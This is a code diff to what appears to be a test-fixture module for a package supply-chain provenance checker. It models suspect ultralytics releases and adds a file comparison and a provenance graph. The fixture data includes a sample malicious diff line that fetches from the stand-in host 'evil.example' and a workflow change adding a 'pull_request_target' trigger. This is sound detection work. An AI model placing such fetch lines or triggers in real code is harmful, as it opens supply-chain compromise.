@@ -139,6 +139,7 @@ def release(version: str, predecessor: str | None, at: datetime, **over: Any) ->
         ],
         "identity": claims(version),
         "identity_diff": None,
+        "comparison": None,
         "exposure": None,
         "files": [file(version, "sdist", at + timedelta(seconds=3)), file(version, "wheel", at)],
         "mentions": [],
@@ -212,6 +213,7 @@ def suspect(version: str, predecessor: str, at: datetime, removed: datetime, fir
         at_publish="suspicious" if first_wave else "likely-compromised",
         reasons=["decisive: an advisory lists this version explicitly and it was removed", "medium or high signals in two families"],
         signals=[*own, *HINDSIGHT], identity=claims(version) if first_wave else None, identity_diff=diff,
+        comparison=comparison(predecessor, version),
         exposure={"start": iso(at), "end": iso(removed), "seconds": int((removed - at).total_seconds()), "start_source": "metadata export",
                   "end_source": "public write-up", "end_reason": "removed from the index"},
         files=[file(version, k, at, attested=first_wave, listed=False) for k in ("sdist", "wheel")],
@@ -219,6 +221,139 @@ def suspect(version: str, predecessor: str, at: datetime, removed: datetime, fir
                   {"source": "OSV", "text": "PYSEC-2024-154", "evidence": [oid("osv")]}],
         evidence=[oid("export"), oid("osv")],
     )  # fmt: skip
+
+
+def comparison(before: str, after: str) -> dict[str, Any]:
+    """Two commits, another workflow file, one file that newly downloads, one too large to spell out."""
+    sdist = f"{NAME}-{after}.tar.gz"
+    text = {
+        "path": "ultralytics/utils/downloads.py",
+        "change": "changed",
+        "runs": "when called",
+        "newly_reaches": ["the network"],
+        "lines": [
+            "@@ -1,2 +1,3 @@",
+            " import os",
+            "-old = 1",
+            "+import urllib.request",
+            "+new = urllib.request.urlopen('https://evil.example/x')",
+        ],
+        "reason": "",
+        "left_out": 7,
+    }
+    large = {
+        "path": "ultralytics/assets/model.bin",
+        "change": "added",
+        "runs": "never",
+        "newly_reaches": [],
+        "lines": [],
+        "reason": "larger than 262,144 bytes",
+        "left_out": 0,
+    }
+    return {
+        "before": before, "after": after,
+        "source": {"before": sha("commit " + before)[:40], "after": sha("commit " + after)[:40], "count": 3,
+                   "commits": [{"sha": sha("commit " + after)[:40], "committed": "2024-12-04T20:43:14Z", "subject": "Update publish workflow"},
+                               {"sha": sha("middle " + after)[:40], "committed": None, "subject": "Merge pull request"}],
+                   "workflow": {"path": ".github/workflows/publish.yml", "before": sha("w" + before)[:40], "after": sha("w" + after)[:40],
+                                "lines": ["@@ -3,2 +3,3 @@", " on: push", "+  pull_request_target:"], "reason": "", "left_out": 0},
+                   "evidence": [oid("git")]},
+        "contents": [{"before": f"{NAME}-{before}.tar.gz", "after": sdist, "added": [large["path"]], "removed": ["gone.py"], "changed": [text["path"]],
+                      "surface": [f"{text['path']} newly touches the network at import"], "dependencies": ["requests"], "problems": ["two members of one name"],
+                      "texts": [text, large], "evidence": [oid("artifact")]}],
+        "not_compared": [{"what": "artifact contents", "reason": "the wheel was not fetched", "needs": "artifact", "evidence": [oid("index")]}],
+    }  # fmt: skip
+
+
+def graph(releases: list[ReleaseDoc]) -> dict[str, Any]:
+    """Every release on one identity and one repository, suspects with their files: the picture is the graph."""
+    nodes = [
+        {
+            "id": "identity:a",
+            "type": "identity",
+            "label": "ultralytics/ultralytics",
+            "versions": [],
+            "members": 1,
+            "verdict": None,
+        },
+        {
+            "id": "repository:r",
+            "type": "repository",
+            "label": "ultralytics/ultralytics",
+            "versions": [],
+            "members": 1,
+            "verdict": None,
+        },
+    ]
+    edges = [
+        {
+            "source": "identity:a",
+            "target": "repository:r",
+            "relation": "speaks for",
+            "version": None,
+            "evidence": [oid("log")],
+        }
+    ]
+    quiet = [r["version"] for r in releases if r["verdict"] not in {"suspicious", "likely-compromised"}]
+    if quiet:
+        nodes.append(
+            {
+                "id": "group:1",
+                "type": "release",
+                "label": f"{len(quiet)} releases",
+                "versions": quiet,
+                "members": max(2, len(quiet)),
+                "verdict": "ordinary",
+            }
+        )
+        edges.append(
+            {
+                "source": "group:1",
+                "target": "identity:a",
+                "relation": "is signed by",
+                "version": None,
+                "evidence": [oid("index")],
+            }
+        )
+    for r in releases:
+        if r["version"] not in quiet:
+            version = r["version"]
+            file = r["files"][0]["filename"]
+            nodes += [
+                {
+                    "id": f"release:{version}",
+                    "type": "release",
+                    "label": version,
+                    "versions": [version],
+                    "members": 1,
+                    "verdict": r["verdict"],
+                },
+                {
+                    "id": f"artifact:{file}",
+                    "type": "artifact",
+                    "label": file,
+                    "versions": [version],
+                    "members": 1,
+                    "verdict": r["verdict"],
+                },
+            ]
+            edges += [
+                {
+                    "source": f"release:{version}",
+                    "target": f"artifact:{file}",
+                    "relation": "has the file",
+                    "version": version,
+                    "evidence": [oid("export")],
+                },
+                {
+                    "source": f"artifact:{file}",
+                    "target": "identity:a",
+                    "relation": "is signed by",
+                    "version": version,
+                    "evidence": [oid("log")],
+                },
+            ]
+    return {"whole": True, "node_count": len(nodes), "edge_count": len(edges), "nodes": nodes, "edges": edges, "picture_nodes": nodes, "picture_edges": edges}  # fmt: skip
 
 
 def diff_rows(before: str, after: str) -> list[dict[str, Any]]:
@@ -303,14 +438,14 @@ def document(releases: list[ReleaseDoc], **over: Any) -> Document:
         "sources": [],
         "not_checked": [],
         "not_collected": [
-            {"section": "source", "reason": "git and artifacts are not collected in this version"},
-            {"section": "graph", "reason": "the provenance graph is not part of this version"},
+            {"section": "source", "reason": "CI runs are not collected in this version"},
         ],
         "drift": [],
         "observations": [],
         "method": ["Signatures, certificates and log proofs are checked offline under the trust root named below.",
                    "Times of publication are asserted by the index; times of signing are signed by the log."],
         "options": {"hindsight": True},
+        "graph": graph(releases),
     }  # fmt: skip
     doc.update(over)  # type: ignore[typeddict-item]
     doc["observations"] = observations(doc)
